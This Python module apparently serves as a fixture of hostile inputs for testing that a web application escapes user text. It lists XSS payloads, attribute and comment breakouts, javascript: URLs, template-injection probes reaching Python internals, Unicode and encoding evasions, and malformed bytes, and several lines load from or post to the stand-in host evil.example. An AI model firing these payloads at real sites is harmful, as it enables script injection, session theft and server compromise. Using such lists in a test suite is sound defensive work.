"""Words that try to run in the reader's browser, each by another way.

Whatever of them runs calls `alert` or asks another host: the tests hear of both. Some need a hole
of a certain shape (an attribute, a script, a template, a stream), so all of them go everywhere.
"""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
)
"""Script elements, whole, disguised and nested."""

ELEMENTS = (
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0c=\x0calert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example/><button autofocus>继续</button></form>",
    "<template><script>alert(1)</script></template><slot name=x onslotchange=alert(1)>",
)
"""Elements that run, load or lead away by themselves."""

WAYS_OUT = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` autofocus onfocus=alert(1) x=`",
    " autofocus onfocus=alert(1) ",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</select></option><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "${alert(1)}",
    "\n\ndata: <script>alert(1)</script>\n\n",
    "event: timeline\ndata: <img src=x onerror=alert(1)>\n\n",
)
"""Words that close what they stand in: an attribute, an element, a comment, a line of a stream."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%0d%0aSet-Cookie:view=1",
    "../../problems/x?lang=<script>alert(1)</script>",
)
"""Addresses that run or lead away, were one made a link of them."""

TEMPLATES = (
    "{{7*7}}{{config}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{number}{0.__class__.__init__.__globals__}",
    "%(number)s%s%n{",
    "#{7*7}<%= 7*7 %>[[7*7]]",
)
"""What a template, a format string or a message would make something else of."""

LETTERS = (
    "＜script＞alert(1)＜/script＞",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e>tpircs/<)1(trela>tpircs<\u202c",
    "<\u200bscript\u200b>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "\ufeff<script>alert(1)</script>",
    "路\u0301面\U0001f6a7<script>alert(1)</script>",
    "\ud7ff\ue000\ufffe<script>alert(1)</script>",
)
"""Letters that a fold, a decoder or a careless reader might take for others."""

HOSTILE = (*SCRIPTS, *ELEMENTS, *WAYS_OUT, *ADDRESSES, *TEMPLATES, *LETTERS)
"""All of them."""

BROKEN = (
    b"\x00<script>alert(1)</script>",
    b"<scr\x00ipt>alert(1)</script>",
    b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    b"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
    b"\xed\xa0\x80<script>alert(1)</script>",
    b"\x1b$B<script>alert(1)</script>",
    b"\xe8\xb7<script>alert(1)</script>",
)
"""Bytes that are no UTF-8, or hold what no text holds: an office may refuse them, in words."""
